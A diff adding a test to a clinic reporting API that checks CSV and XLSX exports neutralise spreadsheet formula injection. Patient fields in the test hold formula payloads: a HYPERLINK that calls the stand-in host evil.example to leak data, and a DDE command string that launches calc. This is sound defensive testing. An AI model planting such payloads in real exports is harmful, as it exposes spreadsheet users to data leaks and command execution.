@@ -182,6 +182,45 @@ describe('POST /v1/admin/clinic/ecm/prtf_reports', () => {
   });
 });
 
+describe('cells that spreadsheets would run as formulas', () => {
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Click")';
+
+  it('neutralises them in the CSV and keeps them as typed text in the XLSX', async () => {
+    const owner = await createUser(t.services, 'Formula Clinic', 'admin', 'Fay Admin');
+    await call(t.app, owner, 'PUT', '/v1/admin/organization', { organization: { npi: '1112223334' } });
+    const created = await call(t.app, owner, 'POST', '/v1/admin/clinic/ecm/patients', {
+      patient: {
+        first_name: '@SUM(A1)', last_name: HYPERLINK, phone: '+44 20 7946 0958', address: { street: "-cmd|' /C calc'!A0", city: 'Oxnard' },
+        ecm_eligibility_information: { member_id: 'FX-1', ecm_benefit_auth_eff_date: '2026-01-01' },
+      },
+    });
+    expect(created.statusCode, created.body).toBe(201);
+    const period = { start_date: '2026-10-01', end_date: '2026-10-31' };
+
+    const csv = (await call(t.app, owner, 'POST', '/v1/admin/clinic/ecm/prtf_reports', period)).json().prtf_report;
+    const rows: string[][] = parse((await download(csv.url)).body);
+    expect(rows).toHaveLength(2);
+    const cell = Object.fromEntries(PRTF_COLUMNS.map((c, i) => [c, rows[1][i]]));
+    expect(cell).toMatchObject({
+      'Member Last Name': `'${HYPERLINK}`,
+      'Member First Name': "'@SUM(A1)",
+      'Member Residential Address': "'-cmd|' /C calc'!A0",
+      'Member Phone Number': '+442079460958', // a phone number, kept for the plans' machines
+      'Member Residential City': 'Oxnard',
+    });
+
+    const xlsx = (await call(t.app, owner, 'POST', '/v1/admin/clinic/ecm/prtf_reports', { ...period, format: 'xlsx' })).json().prtf_report;
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load((await download(xlsx.url)).rawPayload as unknown as ArrayBuffer);
+    const row = wb.getWorksheet('RTF')!.getRow(2);
+    const last = row.getCell(PRTF_COLUMNS.indexOf('Member Last Name') + 1);
+    expect(last.type).toBe(ExcelJS.ValueType.String);
+    expect(last.value).toBe(HYPERLINK);
+    expect(last.formula).toBeUndefined();
+    expect(row.getCell(PRTF_COLUMNS.indexOf('Member First Name') + 1).value).toBe('@SUM(A1)');
+  });
+});
+
 describe('listing, fresh URLs and signed downloads', () => {
   it('lists reports newest first and gives a fresh URL per read; never another clinic\'s', async () => {
     const list = (await call(t.app, admin, 'GET', '/v1/admin/clinic/ecm/prtf_reports')).json();
